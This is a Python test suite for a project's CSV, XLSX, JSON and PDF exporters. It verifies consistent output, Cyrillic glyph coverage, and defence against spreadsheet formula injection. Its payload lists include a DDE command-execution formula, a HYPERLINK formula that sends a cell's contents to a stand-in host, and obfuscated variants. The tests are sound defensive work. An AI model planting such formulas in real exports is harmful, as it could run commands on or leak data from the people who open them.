"""The same table in every format, and no cell of it that runs."""

from __future__ import annotations

import csv
import io
import json
import re
import string
import unicodedata
import zipfile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook  # type: ignore[import-untyped] # it has no types
from reportlab.pdfbase import pdfmetrics  # type: ignore[import-untyped] # as above

from fortnight.exchange.csv_out import to_csv
from fortnight.exchange.json_out import to_json
from fortnight.exchange.pdf_out import FONT, to_pdf
from fortnight.exchange.tables import Table, clean
from fortnight.exchange.xlsx_out import to_xlsx
from fortnight.report.rows import harmless

COLUMNS = ("case", "minutes", "reason")
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example?x="&A1,"here")',
    "\uff1d1+1",
    "  =1+1",
    "good;=1+1",
    'a","=1+1',
    "=1+1\n=1+1",
    "\u200b=1+1",
)
texts = st.text(max_size=40).map(clean)
tables = st.lists(
    st.tuples(texts, st.none() | st.integers(-(10**9), 10**9), st.none() | texts), max_size=8
).map(lambda rows: Table("contacts", COLUMNS, tuple(rows)))


def of_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def of_xlsx(content: bytes) -> list[list[Any]]:
    (sheet,) = load_workbook(io.BytesIO(content)).worksheets
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def said(cell: object) -> str:
    return "" if cell is None else (harmless(cell) if isinstance(cell, str) else str(cell))


@given(tables)
def test_every_format_holds_the_same(table: Table) -> None:
    expected = [list(COLUMNS), *([said(cell) for cell in row] for row in table.rows)]
    as_csv = of_csv(to_csv(table))
    as_xlsx = [
        ["" if cell is None else str(cell) for cell in row] for row in of_xlsx(to_xlsx(table))
    ]
    as_json = [list(row.values()) for row in json.loads(to_json(table))["rows"]]
    assert as_csv == expected
    assert as_xlsx == expected
    assert as_json == [list(row) for row in table.rows]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_runs_as_a_formula(payload: str) -> None:
    table = Table("contacts", COLUMNS, ((payload, 5, payload),))
    content = to_xlsx(table)
    (sheet,) = load_workbook(io.BytesIO(content)).worksheets
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert b"<f>" not in b"".join(parts.read(name) for name in parts.namelist())
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig")), delimiter=delimiter):
            assert not any(re.match(r"[\s\u200b]*[=+\-@\uff1d]", cell) for cell in row)


_UNSEEN = st.text("\u200b\ufeff \t\r\n\u00a0\x00'\"", max_size=3)
_STARTS = st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b")
_RUNS = st.sampled_from(("1+1", "cmd|' /C calc'!A0", 'WEBSERVICE("http://a.example")', "A1;=2"))
_EDGES = st.sampled_from(("", "so;", "so,", "so\t", 'so","', "so\n", "so\r"))
formulas = st.builds("{}{}{}{}".format, _EDGES, _UNSEEN, _STARTS, _RUNS)


@given(formulas)
def test_no_formula_that_anybody_writes_begins_a_cell(formula: str) -> None:
    """Nor where a spreadsheet divides cells at another character, or leaves out what is unseen."""
    table = Table("contacts", COLUMNS, ((clean(formula), 1, clean(formula)),))
    (sheet,) = load_workbook(io.BytesIO(to_xlsx(table))).worksheets
    cells = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
    for delimiter in ",;\t":
        read = csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig")), delimiter=delimiter)
        cells += [cell for row in read for cell in row]
    unseen = '\u200b\ufeff \t\r\n\u00a0"'
    seen = [unicodedata.normalize("NFKC", cell).lstrip(unseen) for cell in cells]
    assert [cell for cell in seen if cell.startswith(("=", "+", "-", "@"))] == []


def test_a_pdf_has_a_glyph_for_every_letter_of_its_languages() -> None:
    russian = "абвгдеёжзийклмнопрстуфхцчшщъыьэюя"
    letters = russian + russian.upper() + string.ascii_letters + string.digits + "№«»—…"
    to_pdf(Table("contacts", COLUMNS, ((letters, 1, letters),)))  # this registers the font
    glyphs = pdfmetrics.getFont(FONT).face.charToGlyph
    drawn = [glyphs.get(ord(letter), 0) for letter in letters]
    assert 0 not in drawn  # the empty box
    assert len(set(drawn)) == len(letters)


def test_a_pdf_holds_every_row_in_any_of_the_scripts() -> None:
    rows = tuple((f"case {place}", place, "Причина: дома <b>&") for place in range(200))
    content = to_pdf(Table("contacts", COLUMNS, rows))
    assert content.startswith(b"%PDF-")
    assert b"DejaVuSansCondensed" in content
    assert content == to_pdf(Table("contacts", COLUMNS, rows))
    assert len(re.findall(rb"/Type /Page\b", content)) >= 10


def test_a_very_long_text_does_not_break_a_page() -> None:
    assert to_pdf(Table("contacts", COLUMNS, (("x" * 500, 1, "y " * 250),)))
